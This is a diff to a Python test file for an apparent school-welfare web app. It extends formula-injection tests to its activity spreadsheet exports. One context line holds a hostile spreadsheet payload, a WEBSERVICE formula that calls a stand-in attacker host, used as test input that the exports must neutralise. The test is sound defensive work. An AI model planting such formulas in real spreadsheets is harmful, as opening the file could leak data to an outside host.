@@ -36,7 +36,8 @@ HOSTILE = {
     "remedy": "=WEBSERVICE(\"http://evil.example/\")",
 }
 XLSX_ROUTES = {"students.export_students", "ledger.export_disbursements", "screening.export_table",
-               "screening.export_submission"}
+               "screening.export_submission", "activities.export_activities", "activities.export_sheet",
+               "activities.export_coverage"}
 
 
 # --- the helper ----------------------------------------------------------------------------------------------
@@ -169,3 +170,24 @@ def test_no_screening_table_cell_or_row_exceeds_excels_limits(hostile, login):
     longest = max((cell for cell in written if isinstance(cell.value, str)), key=lambda cell: len(cell.value))
     assert len(longest.value) == MAX_CELL_CHARS
     assert longest.value.endswith("已截断）")
+
+
+def test_the_activity_downloads_write_no_formula(hostile, login):
+    from caretrack.activities import services as activities
+    from caretrack.activities.models import Theme
+    from caretrack.students.models import Student
+
+    themes = list(db.session.scalars(select(Theme).where(Theme.name == "诚信教育")))
+    activity, _warnings = activities.save_activity(None, activities.ActivityData(
+        organiser=activities.organiser_for("unit", hostile.hostile_school), themes=themes, title=HOSTILE["project"],
+        held_on=date(2025, 11, 5), place=HOSTILE["voucher"]), date(2025, 12, 1))
+    students = list(db.session.scalars(select(Student).where(Student.school_id == hostile.hostile_school.id)))
+    activities.record_attendance(None, activity, students, {students[0].id})
+    client = login(hostile.officer)
+    assert_safe(cells(client.get("/activities/export.xlsx")), HOSTILE["project"], HOSTILE["voucher"],
+                HOSTILE["school"])
+    assert_safe(cells(client.get(f"/activities/{activity.id}/sheet.xlsx")), HOSTILE["student_no"], HOSTILE["name"],
+                HOSTILE["class"])
+    unit = hostile.hostile_school.id
+    assert_safe(cells(client.get(f"/activities/coverage/units/{unit}/coverage.xlsx?year=2025")), HOSTILE["school"],
+                HOSTILE["class"], HOSTILE["name"])
